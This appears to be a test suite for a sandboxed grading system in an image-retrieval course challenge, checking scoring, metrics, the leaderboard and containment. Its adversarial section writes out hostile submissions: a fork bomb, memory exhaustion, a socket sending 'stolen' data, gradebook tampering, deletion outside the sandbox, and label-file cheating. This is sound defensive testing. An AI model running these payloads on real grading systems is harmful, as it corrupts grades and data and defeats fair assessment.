"""The retrieval challenge: scoring formula, metrics, leaderboard, and adversarial submissions in the sandbox."""
from __future__ import annotations

import csv
import os
import socket
import textwrap
import threading
from pathlib import Path

import numpy as np
import pytest

from cbir_kit.errors import CbirError
from cbir_kit.grade import challenge, scoring
from cbir_kit.grade.sandbox import bwrap_status

BWRAP_OK, BWRAP_WHY = bwrap_status()
needs_bwrap = pytest.mark.skipif(not BWRAP_OK, reason=f"bubblewrap isolation unavailable: {BWRAP_WHY}")

# A cheap honest method: 16x16 grey thumbnails, cosine similarity.
HONEST = '''
import numpy as np
from PIL import Image
_g = None
def _emb(paths):
    out = []
    for p in paths:
        with Image.open(p) as im:
            a = np.asarray(im.convert("L").resize((16, 16)), np.float64).ravel()
        a = a - a.mean()
        out.append(a / (np.linalg.norm(a) + 1e-12))
    return np.stack(out)
def build(gallery_paths):
    global _g
    _g = _emb(gallery_paths)
def retrieve(query_paths, k):
    s = _emb(query_paths) @ _g.T
    return np.argsort(-s, axis=1, kind="stable")[:, :k].tolist()
'''

FAST_CFG = {"timing": {"warmup": 0, "repeats": 1, "build_timeout_s": 60, "retrieve_timeout_s": 60},
            "limits": {"cpu_s": 6, "wall_s": 90, "memory_mb": 3072, "nproc": 48, "output_bytes": 200_000}}


def _write(folder: Path, name: str, source: str) -> None:
    (folder / name).write_text(textwrap.dedent(source))


# ---- the score formula and the metrics, against hand-computed values -------------------------

def test_score_formula_hand_computed():
    cfg = scoring.load_config(overrides={"score": {"quality": {"f1": 1, "mAP": 3}, "quality_weight": 2,
                                                   "speed_weight": 1, "speed_cap": 4.0}})
    metrics = {"f1": 0.4, "mAP": 0.8, "precision": 0, "recall": 0}
    out = scoring.score(metrics, {"build_s": 1.0, "retrieve_s": 1.0}, {"build_s": 3.0, "retrieve_s": 3.0}, cfg)
    # quality = (0.4 + 3*0.8)/4 = 0.7; speedup = 6/2 = 3; speed = 3/4; score = 100*(2*0.7 + 0.75)/3
    assert out["quality"] == pytest.approx(0.7)
    assert out["speedup"] == pytest.approx(3.0)
    assert out["speed"] == pytest.approx(0.75)
    assert out["score"] == pytest.approx(100 * (1.4 + 0.75) / 3)
    capped = scoring.score(metrics, {"build_s": 0.1, "retrieve_s": 0.1}, {"build_s": 3.0, "retrieve_s": 3.0}, cfg)
    assert capped["speed"] == 1.0


def test_config_errors_name_the_setting(tmp_path):
    with pytest.raises(CbirError, match="score.quality"):
        scoring.load_config(overrides={"score": {"quality": {"hit_rate": 1.0}}})
    bad = tmp_path / "c.toml"
    bad.write_text("kk = 3\n")
    with pytest.raises(CbirError, match="unknown setting kk"):
        scoring.load_config(bad)
    with pytest.raises(CbirError, match="does not exist"):
        scoring.load_config(tmp_path / "missing.toml")
    from dataclasses import asdict
    from cbir_kit.grade.sandbox import Limits
    shipped = scoring.load_config(Path(__file__).parents[1] / "grading" / "challenge.toml")
    assert shipped["limits"] == asdict(Limits())  # the shipped file states the defaults
    assert {**shipped, "limits": {}} == scoring.load_config()


def test_metrics_against_a_direct_transcription():
    rng = np.random.default_rng(3)
    g_labels = rng.integers(0, 4, 30)
    q_labels = rng.integers(0, 4, 12)
    n_rel = np.array([(g_labels == lab).sum() for lab in q_labels])
    staged = challenge.Staged(Path("."), [], [], g_labels, q_labels, n_rel)
    answer = [list(rng.permutation(30)[: rng.integers(0, 6)]) for _ in range(12)]
    ids = challenge._check_answer([[int(i) for i in row] for row in answer], 12, 30, 5)
    got = challenge.evaluate_answer(ids, staged)
    precisions, recalls, f1s, aps = [], [], [], []
    for q, row in enumerate(answer):
        rel = [g_labels[i] == q_labels[q] for i in row]
        hits = sum(rel)
        p = hits / len(row) if row else 0.0
        r = hits / n_rel[q]
        precisions.append(p)
        recalls.append(r)
        f1s.append(2 * p * r / (p + r) if p + r else 0.0)
        found, ap = 0, 0.0
        for rank, is_rel in enumerate(rel, 1):
            if is_rel:
                found += 1
                ap += found / rank
        aps.append(ap / n_rel[q])
    assert got["precision"] == pytest.approx(np.mean(precisions))
    assert got["recall"] == pytest.approx(np.mean(recalls))
    assert got["f1"] == pytest.approx(np.mean(f1s))
    assert got["mAP"] == pytest.approx(np.mean(aps))


@pytest.mark.parametrize("answer, message", [
    ([[0]], "one list per query"),
    ([[0, 1, 2], [0]], "at most k=2"),
    ([[0, 9], [1]], "outside"),
    ([[1, 1], [0]], "twice"),
])
def test_malformed_answers_are_rejected(answer, message):
    with pytest.raises(challenge._Failure, match=message):
        challenge._check_answer(answer, 2, 5, 2)


def test_staging_hides_names_and_order(tmp_path, demo_dataset):
    staged = challenge.stage_dataset(demo_dataset, tmp_path / "data", seed=1)
    names = sorted(p.name for p in (tmp_path / "data" / "gallery").iterdir())
    assert names == [f"{i:05d}.png" for i in range(demo_dataset.n_gallery)]
    assert not any("__" in Path(p).name for p in staged.query + staged.gallery)
    # the labels follow the images: staged gallery file i is the original image with label gallery_labels[i]
    originals = {Path(p).resolve().read_bytes(): lab for p, lab in zip(demo_dataset.gallery, demo_dataset.gallery_labels)}
    for i in (0, 7, 33):
        assert originals[(tmp_path / "data" / "gallery" / f"{i:05d}.png").read_bytes()] == staged.gallery_labels[i]
    assert not np.array_equal(staged.query_labels, demo_dataset.query_labels)  # shuffled


# ---- adversarial batch --------------------------------------------------------------------

def _honest_reference(ds, k: int) -> dict:
    """The honest method run directly on the original split, scored by a plain transcription."""
    ns: dict = {}
    exec(HONEST, ns)
    ns["build"]([str(Path(p).resolve()) for p in ds.gallery])
    ranked = ns["retrieve"]([str(Path(p).resolve()) for p in ds.query], k)
    n_rel = ds.n_relevant()
    p, r, ap = [], [], []
    for q, row in enumerate(ranked):
        rel = [ds.gallery_labels[i] == ds.query_labels[q] for i in row]
        p.append(sum(rel) / len(row))
        r.append(sum(rel) / n_rel[q])
        ap.append(sum(sum(rel[:i + 1]) / (i + 1) for i, x in enumerate(rel) if x) / n_rel[q])
    return {"precision": np.mean(p), "recall": np.mean(r), "mAP": np.mean(ap)}


@pytest.fixture
def listener():
    """A TCP server on 127.0.0.1 that records whether anyone connected."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    srv.settimeout(0.2)
    seen = []
    stop = threading.Event()

    def loop():
        while not stop.is_set():
            try:
                conn, _ = srv.accept()
                seen.append(True)
                conn.close()
            except OSError:
                pass

    t = threading.Thread(target=loop, daemon=True)
    t.start()
    yield srv.getsockname()[1], seen
    stop.set()
    t.join()
    srv.close()


def _sandbox_pids() -> set[int]:
    pids = set()
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                if b"/sandbox/runner.py" in Path(f"/proc/{pid}/cmdline").read_bytes():
                    pids.add(int(pid))
            except OSError:
                pass
    return pids


@needs_bwrap
def test_adversarial_batch_is_contained(tmp_path, demo_dataset, listener):
    port, connections = listener
    course = tmp_path / "course"
    (course / "source" / "ps1").mkdir(parents=True)
    notebook = course / "source" / "ps1" / "challenge.ipynb"
    notebook.write_text('{"cells": [], "secret": "SOLUTION"}')
    gradebook = course / "gradebook.db"
    gradebook.write_bytes(b"GRADES")
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "keep.txt").write_text("keep")
    labels_csv = Path(demo_dataset.query[0]).resolve().parent / "labels.csv"
    assert labels_csv.is_file()

    subs = tmp_path / "subs"
    subs.mkdir()
    _write(subs, "honest.py", HONEST)
    (subs / "honest_dir").mkdir()
    _write(subs / "honest_dir", "helpers.py", HONEST)
    _write(subs / "honest_dir", "submission.py", "from helpers import build, retrieve\n")
    _write(subs, "loop.py", "def build(g):\n    while True:\n        pass\ndef retrieve(q, k):\n    return []\n")
    _write(subs, "alloc30gb.py", "def build(g):\n    global x\n    x = bytearray(30 * 1024 ** 3)\n"
                                 "def retrieve(q, k):\n    return []\n")
    _write(subs, "forkbomb.py", """
        import os, time
        def build(g):
            for _ in range(100000):
                if os.fork() == 0:
                    time.sleep(120)
                    os._exit(0)
        def retrieve(q, k):
            return []
        """)
    _write(subs, "socket_out.py", f"""
        import socket
        def build(g):
            socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"stolen")
        def retrieve(q, k):
            return []
        """)
    _write(subs, "read_labels.py", f"""
        def build(g):
            global labels
            labels = open({str(labels_csv)!r}).read()
        def retrieve(q, k):
            return []
        """)
    _write(subs, "read_notebook.py", f"def build(g):\n    open({str(notebook)!r}).read()\n"
                                     "def retrieve(q, k):\n    return []\n")
    _write(subs, "write_gradebook.py", f"def build(g):\n    open({str(gradebook)!r}, 'wb').write(b'A+')\n"
                                       "def retrieve(q, k):\n    return []\n")
    _write(subs, "delete_outside.py", f"import shutil\ndef build(g):\n    shutil.rmtree({str(victim)!r})\n"
                                      "def retrieve(q, k):\n    return []\n")
    _write(subs, "print_1gb.py", "import sys\ndef build(g):\n    block = 'x' * (1 << 20)\n"
                                 "    for _ in range(1024):\n        sys.stdout.write(block)\n"
                                 "def retrieve(q, k):\n    return []\n")
    _write(subs, "cheat.py", f"""
        import csv, os
        def build(g):
            global answers
            rows = list(csv.DictReader(open({str(labels_csv)!r})))
            answers = {{r["path"]: r["label"] for r in rows}}
            global gallery
            gallery = g
        def retrieve(q, k):
            lab = lambda p: answers[os.path.basename(p)]
            return [[i for i, g in enumerate(gallery) if lab(g) == lab(p)][:k] for p in q]
        """)
    (subs / "no_entry").mkdir()

    baseline = tmp_path / "cheap_baseline.py"
    baseline.write_text(HONEST)
    before = _sandbox_pids()
    out = tmp_path / "out"
    summary = challenge.run_challenge(subs, "demo", out, overrides={**FAST_CFG, "baseline": str(baseline)},
                                      progress=False)
    by = {r["student"]: r for r in summary["results"]}
    assert summary["sandbox"] == "bwrap"

    expected_reasons = {
        "loop": "CPU-time limit", "alloc30gb": "MemoryError", "forkbomb": "BlockingIOError",
        "socket_out": "ConnectionRefusedError", "read_labels": "FileNotFoundError",
        "read_notebook": "FileNotFoundError", "write_gradebook": "FileNotFoundError",
        "delete_outside": "FileNotFoundError", "print_1gb": "output limit exceeded",
        "cheat": "FileNotFoundError", "no_entry": "no single entry point",
    }
    for student, reason in expected_reasons.items():
        assert by[student]["status"] == "failed", student
        assert reason in by[student]["reason"], (student, by[student]["reason"])
        assert by[student]["scores"]["score"] == 0.0

    # nothing escaped, nothing changed
    assert connections == []
    assert gradebook.read_bytes() == b"GRADES"
    assert (victim / "keep.txt").read_text() == "keep"
    assert _sandbox_pids() <= before  # the fork bomb's children died with its sandbox

    # honest submissions (single file and folder with a helper module) are graded correctly
    ref = _honest_reference(demo_dataset, 10)
    for student in ("honest", "honest_dir"):
        assert by[student]["status"] == "ok", by[student]["reason"]
        for m in ("precision", "recall", "mAP"):
            assert by[student]["metrics"][m] == pytest.approx(ref[m]), (student, m)

    rows = list(csv.DictReader(open(out / "leaderboard.csv")))
    assert [r["status"] for r in rows][:3] == ["ok", "ok", "ok"]
    assert all(r["status"] == "failed" for r in rows[3:])
    page = (out / "leaderboard.html").read_text()
    assert "data:image/png;base64," in page and "cheat" in page


def test_reduced_isolation_still_enforces_limits(tmp_path):
    subs = tmp_path / "subs"
    subs.mkdir()
    _write(subs, "honest.py", HONEST)
    _write(subs, "loop.py", "def build(g):\n    while True:\n        pass\ndef retrieve(q, k):\n    return []\n")
    _write(subs, "alloc30gb.py", "def build(g):\n    bytearray(30 * 1024 ** 3)\ndef retrieve(q, k):\n    return []\n")
    _write(subs, "print_1gb.py", "def build(g):\n    for _ in range(1024):\n        print('x' * (1 << 20))\n"
                                 "def retrieve(q, k):\n    return []\n")
    baseline = tmp_path / "cheap_baseline.py"
    baseline.write_text(HONEST)
    summary = challenge.run_challenge(subs, "demo", tmp_path / "out", progress=False,
                                      overrides={**FAST_CFG, "baseline": str(baseline), "sandbox": "rlimits"})
    assert summary["sandbox"] == "rlimits" and "REDUCED ISOLATION" in summary["sandbox_note"]
    by = {r["student"]: r for r in summary["results"]}
    assert by["honest"]["status"] == "ok"
    assert "CPU-time limit" in by["loop"]["reason"]
    assert "MemoryError" in by["alloc30gb"]["reason"]
    assert "output limit exceeded" in by["print_1gb"]["reason"]
    assert "REDUCED ISOLATION" in (tmp_path / "out" / "leaderboard.html").read_text()


# ---- leaderboard ranking: slow-but-accurate vs fast-but-sloppy, against the real baseline -------

@pytest.mark.slow
def test_leaderboard_ranks_as_the_formula_says(tmp_path):
    subs = tmp_path / "subs"
    subs.mkdir()
    _write(subs, "slow_accurate.py", HONEST.replace("def retrieve(query_paths, k):",
                                                    "def retrieve(query_paths, k):\n    import time; time.sleep(3)"))
    _write(subs, "fast_sloppy.py", "def build(g):\n    global n\n    n = len(g)\n"
                                   "def retrieve(q, k):\n    return [list(range(k)) for _ in q]\n")
    cfg = {**FAST_CFG, "limits": {"cpu_s": 300, "wall_s": 300, "memory_mb": 8192}}  # torch maps ~3 GB
    summary = challenge.run_challenge(subs, "demo", tmp_path / "out", progress=False, overrides=cfg)
    results = [challenge.Result(**r) for r in summary["results"]]
    assert results[0].student == challenge.BASELINE_NAME and results[0].status == "ok"
    by = {r.student: r for r in results}
    assert by["slow_accurate"].scores["quality"] > by["fast_sloppy"].scores["quality"]
    assert by["slow_accurate"].timings["retrieve_s"] >= 3.0

    # the written leaderboard is ranked by the configured formula
    rows = list(csv.DictReader(open(tmp_path / "out" / "leaderboard.csv")))
    scores = [float(r["score"]) for r in rows]
    assert scores == sorted(scores, reverse=True)
    for r in results:
        expected = scoring.score(r.metrics, r.timings, results[0].timings, summary["config"])["score"]
        assert r.scores["score"] == pytest.approx(expected)

    # quality-only weights put slow-but-accurate first; speed-only weights put fast-but-sloppy first
    for weights, winner in (({"quality_weight": 1.0, "speed_weight": 0.0}, "slow_accurate"),
                            ({"quality_weight": 0.0, "speed_weight": 1.0, "speed_cap": 1e6}, "fast_sloppy")):
        cfg = scoring.load_config(overrides={"score": weights})
        challenge.rescore(results, cfg)
        pair = sorted(("slow_accurate", "fast_sloppy"), key=lambda s: -by[s].scores["score"])
        assert pair[0] == winner, weights


# ---- local scoring (cbir_kit.grade.local): the grader's numbers without the sandbox ---------------

def test_score_locally_gives_the_graders_metrics_and_score(tmp_path, demo_dataset):
    from cbir_kit.grade.local import score_locally

    _write(tmp_path, "honest.py", HONEST)
    _write(tmp_path, "too_many.py", "def build(g):\n    pass\ndef retrieve(q, k):\n    return [list(range(k + 1)) for _ in q]\n")
    _write(tmp_path, "no_build.py", "def retrieve(q, k):\n    return []\n")
    fast = {"timing": {"warmup": 0, "repeats": 1}}
    base, mine = score_locally(tmp_path / "honest.py", demo_dataset, overrides=fast, baseline=tmp_path / "honest.py")
    assert base.student == challenge.BASELINE_NAME and base.status == mine.status == "ok"
    ref = _honest_reference(demo_dataset, 10)
    for m in ("precision", "recall", "mAP"):
        assert mine.metrics[m] == pytest.approx(ref[m])
    cfg = scoring.load_config(overrides=fast)
    assert mine.scores == pytest.approx(scoring.score(mine.metrics, mine.timings, base.timings, cfg))
    for name, reason in (("too_many", "at most k=10"), ("no_build", "no function build")):
        _, bad = score_locally(tmp_path / f"{name}.py", demo_dataset, overrides=fast, baseline=tmp_path / "honest.py")
        assert bad.status == "failed" and reason in bad.reason and bad.scores["score"] == 0.0
    with pytest.raises(CbirError, match="does not exist"):
        score_locally(tmp_path / "missing.py", demo_dataset)
